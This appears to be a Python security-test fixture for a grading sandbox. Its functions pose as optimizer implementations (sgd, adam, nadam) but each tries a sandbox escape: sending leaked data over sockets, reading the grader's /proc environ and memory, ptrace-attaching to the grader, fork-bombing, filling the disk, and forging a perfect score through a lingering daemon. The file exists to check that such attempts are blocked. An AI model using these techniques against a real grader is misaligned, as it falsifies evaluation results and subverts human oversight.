# The attacks of the Landlock tier (no namespaces: the grader is this process's parent, on the host's
# network, file system and process table). Each function tries one class and raises with what it
# achieved as JSON ("achieved: {...}"), so the test reads the result from the report: every list
# must be empty. HOST adds: port (a listener of the test's), reads (paths it must not read), secret.
import ctypes
import errno
import json
import os
import signal
import socket
import time

_libc = ctypes.CDLL(None, use_errno=True)
_reference_nadam = nadam


def _report(**achieved):
    raise RuntimeError("achieved: " + json.dumps(achieved, sort_keys=True))


def _attempt(action):
    try:
        action()
        return True
    except OSError:
        return False


def sgd(w, dw, config=None):
    """Network out: TCP and UDP to the test's listener, over IPv4, IPv6 and a raw packet socket."""
    sent = []

    def tcp(family, address):
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"leaked " + json.dumps(HOST["reads"]).encode())

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"leaked", ("127.0.0.1", HOST["port"]))

    def bound():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.bind(("127.0.0.1", 0))
            s.listen()

    for name, action in (("tcp4", lambda: tcp(socket.AF_INET, ("127.0.0.1", HOST["port"]))),
                         ("tcp6", lambda: tcp(socket.AF_INET6, ("::ffff:127.0.0.1", HOST["port"]))),
                         ("udp", udp), ("bind", bound),
                         ("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
                         ("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close())):
        if _attempt(action):
            sent.append(name)
    _report(network=sent)


def sgd_momentum(w, dw, config=None, **_):
    """Reading: dlgrade's files, other files, the secret, the grader's environment and command line."""
    grader = os.getppid()
    read, listed, secret_seen = [], [], []
    for path in [*HOST["reads"], f"/proc/{grader}/environ", f"/proc/{grader}/cmdline", f"/proc/{grader}/mem",
                 f"/proc/{HOST['grader_pid']}/environ", "/proc/self/environ"]:
        try:
            with open(path, "rb") as file:
                data = file.read(1 << 16)
            if not path.startswith("/proc/self"):
                read.append(path)
            if HOST["secret"].encode() in data:
                secret_seen.append(path)
        except OSError:
            pass
    for path in [*HOST["reads"], "/proc", "/", "/tmp", "/root"]:
        if os.path.isdir(path) and _attempt(lambda: os.listdir(path)):
            listed.append(path)
    _report(read=read, listed=listed, secret=secret_seen, uid=[os.getuid(), os.getgid(), os.getgroups()])


def rmsprop(w, dw, config=None, **_):
    """Writing: the results file (a forged grade), the canaries, the shared temporary folders; then its own
    scratch, which it may write."""
    written = []
    for path in [HOST["results"], *HOST["canaries"], "/tmp/dlgrade-forged", "/dev/shm/dlgrade-forged",
                 os.path.join(os.path.dirname(HOST["results"]), "forged.json")]:
        def forge(path=path):
            with open(path, "w") as file:
                file.write('{"score": 165.5, "max_score": 165.5}')
        if _attempt(forge):
            written.append(path)
    scratch = _attempt(lambda: open("scratch-file", "w").write("mine"))
    _report(written=written, scratch=[scratch])


def adam(w, dw, config=None, **_):
    """Signalling or tracing the grader (its parent here) and the test process."""
    done = []
    for pid in (os.getppid(), HOST["grader_pid"]):
        if _attempt(lambda: os.kill(pid, 0)):
            done.append(f"kill-0 {pid}")
        if _attempt(lambda: os.kill(pid, signal.SIGCONT)):
            done.append(f"SIGCONT {pid}")
        if _libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            done.append(f"ptrace {pid}")
        if _libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
            done.append(f"seize {pid}")
        try:
            fd = os.pidfd_open(pid)
            if _attempt(lambda: signal.pidfd_send_signal(fd, signal.SIGCONT)):
                done.append(f"pidfd {pid}")
            os.close(fd)
        except OSError:
            pass
    _report(signalled=done)


def adagrad(w, dw, config=None, **_):
    """A fork storm: how many children start (each sleeps; the grader must kill them all)."""
    started = 0
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        started += 1
    _report(forks=[started])


def adamax(w, dw, config=None, **_):
    """Filling the scratch folder past its bound, in files each under RLIMIT_FSIZE."""
    written = 0
    block = b"x" * (1 << 20)
    for n in range(100):
        try:
            with open(f"fill-{n}", "wb") as file:
                file.write(block)
            written += 1
        except OSError:
            break
    _report(megabytes=[written])


def nadam(w, dw, config=None, **_):
    """A daemon in its own session that outlives the grade and rewrites the results."""
    refused = []
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError as exc:
            refused.append(errno.errorcode[exc.errno])
        if os.fork() == 0:
            deadline = time.time() + HOST["daemon_seconds"]
            while time.time() < deadline:
                for path in [HOST["results"], *HOST["canaries"]]:
                    try:
                        with open(path, "w") as file:
                            file.write('{"score": 165.5, "max_score": 165.5}')
                    except OSError:
                        pass
                time.sleep(0.1)
        os._exit(0)
    os.wait()
    return _reference_nadam(w, dw, config)
